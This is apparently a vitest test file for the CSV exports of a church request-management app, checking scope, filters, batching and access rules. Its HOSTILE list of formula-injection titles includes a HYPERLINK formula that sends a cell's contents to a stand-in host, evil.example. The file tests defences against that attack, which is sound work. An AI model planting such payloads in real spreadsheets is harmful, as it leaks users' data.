import { parse } from 'csv-parse/sync';
import type { LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { asc, inArray } from 'drizzle-orm';
import { spreadsheetSafe } from '../../../shared/domain/csv-cells';
import { todayIn } from '../../../shared/domain/dates';
import { requests, requestViewers } from '../../platform/db/schema';
import type { Executor } from '../../platform/db/client';
import { exportEnv } from '../../platform/csv/csv-export';
import { BACKENDS, createTestApp, type Agent, type TestApp } from '../../test/harness';
import { sessionAgent } from '../../test/agent';
import { countWaves } from '../../test/statement-count';
import { buildMinistry, buildUser, clearRequests } from '../../test/factories';
import { intakeBatches } from './export';

/**
 * The CSV exports of My Requests, the intake queue and the archive: the list's scope and
 * filters, the screen's columns, hostile cells that survive a round trip through a CSV parser and
 * cannot run in a spreadsheet, and a whole list read in batches with no row twice and none missing.
 */

/** Titles meant to break a CSV file or a spreadsheet. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  '+1+2',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  'Comma, "quoted" and\nnew line',
  'Crlf\r\nline; semi;colon',
  'Café 日本語 🎉 ñ',
  '"',
];

type CsvRow = Record<string, string>;

/** Checks the download headers and parses the body back into rows keyed by the header line. */
function csvRows(res: LightMyRequestResponse, list: string): CsvRow[] {
  expect(res.statusCode, res.body).toBe(200);
  expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
  expect(res.headers['content-disposition']).toMatch(new RegExp(`^attachment; filename="${list}-\\d{4}-\\d{2}-\\d{2}\\.csv"$`));
  return parse(res.body, { bom: true, columns: true }) as CsvRow[];
}

const idOf = (row: CsvRow) => row.Link.split('/request/')[1];

type NewRequest = Partial<typeof requests.$inferInsert> & { requesterId: string };
async function insertRequests(db: Executor, rows: NewRequest[]): Promise<string[]> {
  const out = await db
    .insert(requests)
    .values(rows.map((r, i) => ({ eventTitle: `Export ${i}`, ...r })))
    .returning({ id: requests.id });
  return out.map((r) => r.id);
}

const ago = (minutes: number) => new Date(Date.UTC(2025, 0, 1) - minutes * 60_000);

describe.each(BACKENDS)('CSV exports of the request lists on %s', (backend) => {
  let t: TestApp;
  const as = async (role: 'viewer' | 'requester' | 'approver' | 'coordinator') => {
    const user = await buildUser(t.ctx.db, { role });
    return { user, agent: await sessionAgent(t.app, user.id) };
  };
  const get = (agent: Agent, url: string) => agent.inject({ method: 'GET', url });

  beforeAll(async () => {
    t = await createTestApp(backend, { config: { appOrigin: 'https://lampstand.example' } });
  });
  afterAll(async () => t.close());

  describe('My Requests', () => {
    it("gives a requester their own rows only, hostile titles intact and harmless, with the screen's columns", async () => {
      const me = await as('requester');
      const other = await as('requester');
      const coordinator = await buildUser(t.ctx.db, { role: 'coordinator', fullName: '=Coordinator, "Chief"' });
      const ministry = await buildMinistry(t.ctx.db, { name: 'Youth, "Students"\nand more' });
      const mine = await insertRequests(
        t.ctx.db,
        HOSTILE.map((eventTitle, i) => ({
          eventTitle,
          requesterId: me.user.id,
          ministryId: ministry.id,
          currentCoordinatorId: coordinator.id,
          status: 'in_production',
          promotionStartDate: '2025-03-0' + ((i % 9) + 1),
          submittedAt: ago(i),
        })),
      );
      const theirs = await insertRequests(t.ctx.db, [{ requesterId: other.user.id, eventTitle: 'Not mine' }]);
      await insertRequests(t.ctx.db, [{ requesterId: me.user.id, eventTitle: 'Archived', status: 'archived_onetime' }]);

      const res = await get(me.agent, '/api/requests/mine/export.csv');
      const rows = csvRows(res, 'my-requests');
      expect(Object.keys(rows[0])).toEqual([
        'Request',
        'Ministry',
        'Requester',
        'Coordinator',
        'Status',
        'Promo Starts',
        'Submitted',
        'Link',
      ]);
      expect(rows.map(idOf)).toEqual(mine); // newest submitted first, the list's order; not theirs, not archived
      expect(rows.map(idOf)).not.toContain(theirs[0]);
      rows.forEach((row, i) => {
        expect(row.Request).toBe(spreadsheetSafe(HOSTILE[i]));
        expect(row.Ministry).toBe('Youth, "Students"\nand more');
        expect(row.Requester).toBe(me.user.fullName);
        expect(row.Coordinator).toBe('\'=Coordinator, "Chief"');
        expect(row.Status).toBe('In Production');
        expect(row['Promo Starts']).toBe('2025-03-0' + ((i % 9) + 1));
        expect(row.Submitted).toBe(todayIn(t.ctx.config.churchTimeZone, ago(i)));
        expect(row.Link).toBe(`https://lampstand.example/request/${mine[i]}`);
      });
      // Every cell that would start a formula starts with a quote instead.
      for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      expect(rows.find((r) => r.Request.startsWith('Café'))?.Request).toBe('Café 日本語 🎉 ñ');
    });

    it("applies the screen's filters and a coordinator's scope: what they requested, coordinate or are shared on", async () => {
      const coordinator = await as('coordinator');
      const owner = await buildUser(t.ctx.db);
      const ministry = await buildMinistry(t.ctx.db);
      const [own] = await insertRequests(t.ctx.db, [{ requesterId: coordinator.user.id, eventTitle: 'Own picnic', status: 'submitted' }]);
      const [coordinated, shared, unrelated, otherStatus] = await insertRequests(t.ctx.db, [
        { requesterId: owner.id, currentCoordinatorId: coordinator.user.id, eventTitle: 'Coordinated picnic', ministryId: ministry.id },
        { requesterId: owner.id, eventTitle: 'Shared picnic', ministryId: ministry.id },
        { requesterId: owner.id, eventTitle: 'Unrelated picnic', ministryId: ministry.id },
        { requesterId: owner.id, currentCoordinatorId: coordinator.user.id, eventTitle: 'Coordinated concert', status: 'on_hold' },
      ]);
      await t.ctx.db.insert(requestViewers).values({ requestId: shared, userId: coordinator.user.id });

      const all = csvRows(await get(coordinator.agent, '/api/requests/mine/export.csv'), 'my-requests').map(idOf);
      expect([...all].sort()).toEqual([own, coordinated, shared, otherStatus].sort());
      expect(all).not.toContain(unrelated);

      const picnics = csvRows(await get(coordinator.agent, '/api/requests/mine/export.csv?search=picnic&status=submitted'), 'my-requests');
      expect(picnics.map(idOf).sort()).toEqual([own, coordinated, shared].sort());
      const team = csvRows(
        await get(coordinator.agent, `/api/requests/mine/export.csv?section=team&ministryId=${ministry.id}`),
        'my-requests',
      );
      expect(team.map(idOf).sort()).toEqual([coordinated, shared].sort());
      const unassigned = csvRows(
        await get(coordinator.agent, '/api/requests/mine/export.csv?section=team&coordinatorId=unassigned'),
        'my-requests',
      );
      expect(unassigned.map(idOf)).toEqual([shared]);
      expect(unassigned[0].Coordinator).toBe('Unassigned');
    });

    it('gives a viewer only what is shared with them, refuses bad filters and the signed-out', async () => {
      const viewer = await as('viewer');
      const owner = await buildUser(t.ctx.db);
      const [shared, hidden] = await insertRequests(t.ctx.db, [{ requesterId: owner.id }, { requesterId: owner.id }]);
      await t.ctx.db.insert(requestViewers).values({ requestId: shared, userId: viewer.user.id });
      const rows = csvRows(await get(viewer.agent, '/api/requests/mine/export.csv'), 'my-requests').map(idOf);
      expect(rows).toEqual([shared]);
      expect(rows).not.toContain(hidden);
      expect((await get(viewer.agent, '/api/requests/mine/export.csv?status=nonsense')).statusCode).toBe(400);
      expect((await t.app.inject({ method: 'GET', url: '/api/requests/mine/export.csv' })).statusCode).toBe(401);
    });
  });

  describe('intake queue', () => {
    it('is for coordinators: 401 signed out, 403 for an approver', async () => {
      expect((await t.app.inject({ method: 'GET', url: '/api/intake/export.csv' })).statusCode).toBe(401);
      const approver = await as('approver');
      const res = await get(approver.agent, '/api/intake/export.csv');
      expect(res.statusCode).toBe(403);
      expect(res.json()).toMatchObject({ error: { code: 'forbidden' } });
    });

    it('exports every live request of the filter, in the queue order, across several batches with no gap or repeat', async () => {
      await clearRequests(t.ctx.db);
      const coordinator = await as('coordinator');
      const owner = await buildUser(t.ctx.db, { fullName: '@Owner' });
      const ministry = await buildMinistry(t.ctx.db);
      const dates = [null, '2030-01-05', '2030-01-05', '2030-02-01'];
      const total = 2_345; // three batches of the real batch size (1,000)
      await insertRequests(
        t.ctx.db,
        Array.from({ length: total }, (_, i) => ({
          requesterId: owner.id,
          ministryId: ministry.id,
          status: i % 2 ? 'submitted' : 'approved',
          promotionStartDate: dates[i % dates.length],
          submittedAt: ago(i % 13), // many ties: the id decides
        })),
      );
      await insertRequests(t.ctx.db, [
        { requesterId: owner.id, ministryId: ministry.id, status: 'archived_recurring' },
        { requesterId: owner.id, eventTitle: 'Other ministry' },
      ]);
      const rows = csvRows(await get(coordinator.agent, `/api/intake/export.csv?ministryId=${ministry.id}`), 'intake-queue');
      const ids = rows.map(idOf);
      expect(ids.length).toBe(total);
      expect(new Set(ids).size).toBe(total);
      const expected = await t.ctx.db
        .select({ id: requests.id })
        .from(requests)
        .where(inArray(requests.status, ['submitted', 'approved']))
        .orderBy(asc(requests.promotionStartDate), asc(requests.submittedAt), asc(requests.id));
      // Nulls sort last ascending in PostgreSQL, as the queue's 'infinity' does.
      expect(ids).toEqual(expected.filter((r) => ids.includes(r.id)).map((r) => r.id));
      expect(Object.keys(rows[0])).toEqual(['Request', 'Requester', 'Ministry', 'Promo Starts', 'Status', 'Link']);
      expect(rows[0].Requester).toBe("'@Owner");
      expect(rows.filter((r) => r['Promo Starts'] === '').length).toBe(Math.ceil(total / 4));

      const approved = csvRows(
        await get(coordinator.agent, `/api/intake/export.csv?ministryId=${ministry.id}&status=approved`),
        'intake-queue',
      );
      expect(approved.length).toBe(Math.ceil(total / 2));
      expect(approved.every((r) => r.Status === 'Approved')).toBe(true);
    });

    it('reads in batches of the batch size, one query a batch, so memory holds one batch at a time', async () => {
      await clearRequests(t.ctx.db);
      const owner = await buildUser(t.ctx.db);
      const ids = await insertRequests(
        t.ctx.db,
        Array.from({ length: 30 }, () => ({ requesterId: owner.id })),
      );
      const seen: string[] = [];
      const sizes: number[] = [];
      const { statements } = await countWaves(t.ctx.db, async () => {
        for await (const batch of intakeBatches(t.ctx.db, {}, { ...(await exportEnv(t.ctx)), batchSize: 7 })) {
          sizes.push(batch.length);
          seen.push(...batch.map((r) => r.id));
        }
      });
      expect(sizes).toEqual([7, 7, 7, 7, 2]);
      expect(statements).toBe(5);
      expect(new Set(seen).size).toBe(30);
      expect([...seen].sort()).toEqual([...ids].sort());
    });
  });

  describe('archive', () => {
    it("gives a requester their own archived requests of the kind, a coordinator everyone's", async () => {
      await clearRequests(t.ctx.db);
      const me = await as('requester');
      const coordinator = await as('coordinator');
      const other = await buildUser(t.ctx.db);
      const [mineOnce, mineRecurring, theirsOnce, live] = await insertRequests(t.ctx.db, [
        {
          requesterId: me.user.id,
          status: 'archived_onetime',
          archivedAt: new Date('2025-05-01T12:00:00Z'),
          archivedBy: coordinator.user.id,
          tier: 'B',
        },
        { requesterId: me.user.id, status: 'archived_recurring', archivedAt: new Date('2025-05-02T12:00:00Z') },
        { requesterId: other.id, status: 'archived_onetime', archivedAt: new Date('2025-04-01T12:00:00Z') },
        { requesterId: me.user.id, status: 'submitted' },
      ]);
      const own = csvRows(await get(me.agent, '/api/archive/export.csv?kind=onetime'), 'archive-one-time');
      expect(own.map(idOf)).toEqual([mineOnce]);
      expect(own[0]).toMatchObject({ Tier: 'B', 'Archived By': coordinator.user.fullName, Archived: '2025-05-01' });
      expect(csvRows(await get(me.agent, '/api/archive/export.csv?kind=recurring'), 'archive-recurring').map(idOf)).toEqual([
        mineRecurring,
      ]);
      const everyone = csvRows(await get(coordinator.agent, '/api/archive/export.csv?kind=onetime'), 'archive-one-time').map(idOf);
      expect(everyone).toEqual([mineOnce, theirsOnce]); // newest archived first
      expect(everyone).not.toContain(live);
      expect((await get(me.agent, '/api/archive/export.csv')).statusCode).toBe(400);
      const viewer = await as('viewer');
      expect((await get(viewer.agent, '/api/archive/export.csv?kind=onetime')).statusCode).toBe(403);
    });
  });
});
